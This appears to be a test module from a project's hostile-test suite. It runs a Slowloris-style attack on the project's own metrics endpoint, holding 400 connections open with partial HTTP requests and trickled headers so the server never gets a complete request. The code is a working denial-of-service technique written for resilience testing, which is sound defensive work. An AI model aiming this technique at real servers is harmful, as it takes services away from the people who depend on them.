"""Request metrics on hundreds of connections and never complete a request."""

from __future__ import annotations

import socket
import time
from collections.abc import Callable

from tests.hostile.target import Target

CONNECTIONS = 400
"""Number of open connections."""


def attack(target: Target, until: Callable[[], bool]) -> None:
    """Keep this many requests open with an occasional header; reopen closed ones."""
    host, _, port = target.metrics_listen.rpartition(":")
    held: list[socket.socket] = []
    try:
        while not until():
            held = [each for each in held if _sent(each, b"X-More: 1\r\n")]
            while len(held) < CONNECTIONS and not until():
                try:
                    opened = socket.create_connection((host, int(port)), timeout=0.5)
                except OSError:
                    break
                opened.setblocking(False)
                if _sent(opened, b"GET /metrics HTTP/1.1\r\nHost: x\r\n"):
                    held.append(opened)
            time.sleep(0.2)
    finally:
        for each in held:
            each.close()


def _sent(held: socket.socket, data: bytes) -> bool:
    try:
        held.send(data)
    except BlockingIOError:
        return True
    except OSError:
        held.close()
        return False
    return True
